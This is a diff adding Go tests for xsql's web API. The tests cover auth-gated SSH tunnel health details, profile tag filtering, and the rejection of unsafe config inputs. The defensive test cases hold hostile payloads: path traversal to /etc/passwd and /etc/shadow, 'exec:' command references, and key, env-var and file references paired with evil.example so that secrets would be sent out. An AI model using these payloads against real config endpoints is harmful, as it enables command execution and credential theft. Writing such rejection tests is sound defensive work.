@@ -9,6 +9,8 @@ import (
 	"strings"
 	"testing"
 	"testing/fstest"
+
+	"github.com/zx06/xsql/internal/app"
 )
 
 type envelope struct {
@@ -73,6 +75,46 @@ func TestHandler_HealthAndConfig(t *testing.T) {
 	}
 }
 
+func TestHandler_HealthSSHTunnels(t *testing.T) {
+	tunnels := app.NewSSHTunnels(nil)
+	defer tunnels.Close()
+	handler := NewHandler(HandlerOptions{
+		AuthRequired: true,
+		AuthToken:    "secret",
+		SSHTunnels:   tunnels,
+		Assets:       fstest.MapFS{},
+	})
+
+	health := func(auth string) map[string]any {
+		t.Helper()
+		req := httptest.NewRequest(http.MethodGet, "/api/v1/health", nil)
+		if auth != "" {
+			req.Header.Set("Authorization", auth)
+		}
+		rec := httptest.NewRecorder()
+		handler.ServeHTTP(rec, req)
+		if rec.Code != http.StatusOK {
+			t.Fatalf("health status=%d", rec.Code)
+		}
+		data, ok := decodeEnvelope(t, rec.Body.Bytes()).Data.(map[string]any)
+		if !ok {
+			t.Fatalf("unexpected health body: %s", rec.Body.String())
+		}
+		return data
+	}
+
+	// Tunnel details are only shown to authorized callers.
+	if _, ok := health("")["ssh_tunnels"]; ok {
+		t.Error("ssh_tunnels shown without a token")
+	}
+	if _, ok := health("Bearer wrong")["ssh_tunnels"]; ok {
+		t.Error("ssh_tunnels shown with an invalid token")
+	}
+	if st, ok := health("Bearer secret")["ssh_tunnels"].([]any); !ok || len(st) != 0 {
+		t.Errorf("ssh_tunnels = %#v", st)
+	}
+}
+
 func TestHandler_ProfilesAuth(t *testing.T) {
 	configPath := createConfigFile(t, `
 profiles:
@@ -121,6 +163,52 @@ profiles:
 	}
 }
 
+func TestHandler_ProfilesTagFilter(t *testing.T) {
+	configPath := createConfigFile(t, `
+profiles:
+  orders-eu:
+    db: pg
+    tags: [prod, eu]
+  orders-us:
+    db: pg
+    tags: [prod, us]
+  dev:
+    db: mysql
+`)
+	handler := NewHandler(HandlerOptions{ConfigPath: configPath})
+
+	names := func(url string) []string {
+		t.Helper()
+		rec := httptest.NewRecorder()
+		handler.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, url, nil))
+		if rec.Code != http.StatusOK {
+			t.Fatalf("%s: status=%d body=%s", url, rec.Code, rec.Body.String())
+		}
+		data := decodeEnvelope(t, rec.Body.Bytes()).Data.(map[string]any)
+		var out []string
+		for _, p := range data["profiles"].([]any) {
+			out = append(out, p.(map[string]any)["name"].(string))
+		}
+		return out
+	}
+
+	if got := names("/api/v1/profiles?tag=prod"); len(got) != 2 {
+		t.Errorf("tag=prod: got %v", got)
+	}
+	if got := names("/api/v1/profiles?tag=prod&tag=eu"); len(got) != 1 || got[0] != "orders-eu" {
+		t.Errorf("tag=prod&tag=eu: got %v", got)
+	}
+	if got := names("/api/v1/profiles?tag=prod,us"); len(got) != 1 || got[0] != "orders-us" {
+		t.Errorf("tag=prod,us: got %v", got)
+	}
+
+	rec := httptest.NewRecorder()
+	handler.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/api/v1/profiles/tag:eu", nil))
+	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `"orders-eu"`) {
+		t.Errorf("profile show by tag selector: status=%d body=%s", rec.Code, rec.Body.String())
+	}
+}
+
 func TestHandler_FrontendFallbackWhenDistMissing(t *testing.T) {
 	handler := NewHandler(HandlerOptions{
 		Assets: fstest.MapFS{
@@ -822,3 +910,101 @@ func TestHandler_ConfigAIAndTesting(t *testing.T) {
 	}
 }
 
+
+func TestHandler_ConfigRejectsUnsafeSSHFiles(t *testing.T) {
+	configPath := createConfigFile(t, "profiles: {}\nssh_proxies: {}\n")
+	original, err := os.ReadFile(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := NewHandler(HandlerOptions{ConfigPath: configPath})
+
+	cases := []struct {
+		path string
+		body string
+		want string
+	}{
+		{"/api/v1/config/ssh-proxies", `{"name":"bastion","ssh_proxy":{"host":"h","strict_host_key_checking":"accept-new","known_hosts_file":"/etc/cron.d/x"}}`, "accept-new cannot be set"},
+		{"/api/v1/config/test/ssh-proxy", `{"ssh_proxy":{"host":"h","strict_host_key_checking":"accept-new"}}`, "accept-new cannot be set"},
+		{"/api/v1/config/ssh-proxies", `{"name":"bastion","ssh_proxy":{"host":"h","known_hosts_file":"~/../../etc/ssh/known_hosts"}}`, "invalid known_hosts file path"},
+		{"/api/v1/config/test/ssh-proxy", `{"ssh_proxy":{"host":"h","known_hosts_file":"/tmp/../etc/passwd"}}`, "invalid known_hosts file path"},
+		{"/api/v1/config/test/ssh-proxy", `{"ssh_proxy":{"host":"h","certificate_file":"../id_ed25519-cert.pub"}}`, "invalid certificate file path"},
+		{"/api/v1/config/test/ssh-proxy", `{"ssh_proxy":{"host":"h","identity_file":"../id_ed25519"}}`, "invalid identity file path"},
+	}
+	for _, tc := range cases {
+		req := httptest.NewRequest(http.MethodPost, tc.path, strings.NewReader(tc.body))
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, req)
+		if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), tc.want) {
+			t.Errorf("%s %s: expected 400 with %q, got %d: %s", tc.path, tc.body, tc.want, rec.Code, rec.Body.String())
+		}
+	}
+	if b, _ := os.ReadFile(configPath); string(b) != string(original) {
+		t.Errorf("rejected payloads modified the config:\n%s", b)
+	}
+
+	// strict_host_key_checking: yes is still accepted.
+	req := httptest.NewRequest(http.MethodPost, "/api/v1/config/ssh-proxies", strings.NewReader(`{"name":"bastion","ssh_proxy":{"host":"h","strict_host_key_checking":"yes","known_hosts_file":"~/.ssh/known_hosts"}}`))
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if rec.Code != http.StatusOK {
+		t.Errorf("expected 200, got %d: %s", rec.Code, rec.Body.String())
+	}
+}
+
+func TestHandler_ConfigRejectsServerSecrets(t *testing.T) {
+	configPath := createConfigFile(t, "profiles: {}\nssh_proxies: {}\n")
+	original, err := os.ReadFile(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := NewHandler(HandlerOptions{ConfigPath: configPath})
+
+	cases := []struct {
+		path string
+		body string
+	}{
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"mysql","password":"exec:cat /etc/passwd"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"mysql","host":"evil.example","password":"file:~/.ssh/id_ed25519"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"mysql","host":"evil.example","password":"env:AWS_SECRET_ACCESS_KEY"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"mysql","password":"vault:secret/data/db#password"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"mysql","password":"ENC[AES256_GCM,data:AAAA,iv:AAAA,tag:AAAA]"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"mysql","password":"${AWS_SECRET_ACCESS_KEY}"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"mysql","host":"${AWS_SECRET_ACCESS_KEY}.evil.example"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"url":"mysql://root:exec:id@localhost/app"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"url":"mysql://root:env:HOME@evil.example/app"}}`},
+		{"/api/v1/config/ssh-proxies", `{"name":"bastion","ssh_proxy":{"host":"h","passphrase":"exec:id"}}`},
+		{"/api/v1/config/ssh-proxies", `{"name":"bastion","ssh_proxy":{"host":"h","password":"file:/etc/shadow"}}`},
+		{"/api/v1/config/ai", `{"ai":{"api_key":"exec:id"}}`},
+		{"/api/v1/config/ai", `{"ai":{"base_url":"https://evil.example","api_key":"env:OPENAI_API_KEY"}}`},
+		{"/api/v1/config/test/profile", `{"profile":{"db":"mysql","password":"exec:id"}}`},
+		{"/api/v1/config/test/profile", `{"profile":{"db":"mysql","host":"evil.example","password":"env:AWS_SECRET_ACCESS_KEY"}}`},
+		{"/api/v1/config/test/ssh-proxy", `{"ssh_proxy":{"host":"h","passphrase":"exec:id"}}`},
+		{"/api/v1/config/test/ssh-proxy", `{"ssh_proxy":{"host":"evil.example","password":"file:~/.ssh/id_ed25519"}}`},
+		{"/api/v1/config/test/ai", `{"ai":{"api_key":"exec:id"}}`},
+		{"/api/v1/config/test/ai", `{"ai":{"base_url":"https://evil.example","api_key":"vault:secret/data/ai#key"}}`},
+		{"/api/v1/config/profiles", `{"name":"dev","profile":{"db":"pg","auth":{"provider":"command","command":"id"}}}`},
+		{"/api/v1/config/test/profile", `{"profile":{"db":"pg","auth":{"provider":"command","command":"id"}}}`},
+	}
+	for _, tc := range cases {
+		req := httptest.NewRequest(http.MethodPost, tc.path, strings.NewReader(tc.body))
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, req)
+		if rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "through the web API") {
+			t.Errorf("%s %s: expected 400 rejecting the payload, got %d: %s", tc.path, tc.body, rec.Code, rec.Body.String())
+		}
+	}
+	if b, _ := os.ReadFile(configPath); string(b) != string(original) {
+		t.Errorf("rejected payloads modified the config:\n%s", b)
+	}
+
+	// Plaintext values and keyring: references are accepted.
+	for _, password := range []string{"hunter2", "keyring:dev/password"} {
+		req := httptest.NewRequest(http.MethodPost, "/api/v1/config/profiles", strings.NewReader(`{"name":"dev","profile":{"db":"mysql","password":"`+password+`"}}`))
+		rec := httptest.NewRecorder()
+		h.ServeHTTP(rec, req)
+		if rec.Code != http.StatusOK {
+			t.Errorf("expected 200 for %q, got %d: %s", password, rec.Code, rec.Body.String())
+		}
+	}
+}